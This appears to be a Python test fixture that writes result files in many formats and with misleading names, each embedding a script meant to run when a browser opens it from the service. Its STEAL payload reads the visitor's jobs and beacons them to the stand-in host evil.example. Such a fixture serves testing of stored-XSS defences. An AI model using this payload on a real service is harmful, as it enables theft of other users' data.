"""Write results made to run script when a browser opens them from the service."""

import base64

from innerspace import runtime

# What the script would do in the service's origin: read the visitor's jobs, send them away.
STEAL = "fetch('/jobs').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
PAGE = f"<!doctype html><html><body><h1>results</h1><script>{STEAL}</script></body></html>\n"
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       f"<script>{STEAL}</script></svg>\n")
XHTML = ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
         f"<script>{STEAL}</script></body></html>\n")
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

RESULTS: dict[str, str | bytes] = {
    "page.html": PAGE, "page.htm": PAGE, "drawing.svg": SVG, "data.xml": XHTML,
    "page.xhtml": XHTML, "code.js": STEAL + "\n", "blob.bin": PAGE, "noextension": PAGE,
    "report.pdf": b"%PDF-1.4\n" + PAGE.encode(), "notes.txt": PAGE,
    "table.csv": "a,b\n1,<script>x</script>\n", "stats.json": '{"html": "<script>x</script>"}\n',
    "image.png": PNG, 'na\u00efve "quoted";name.html': PAGE,
}


def main() -> None:
    for name, content in RESULTS.items():
        runtime.write_result(name, content)


if __name__ == "__main__":
    main()
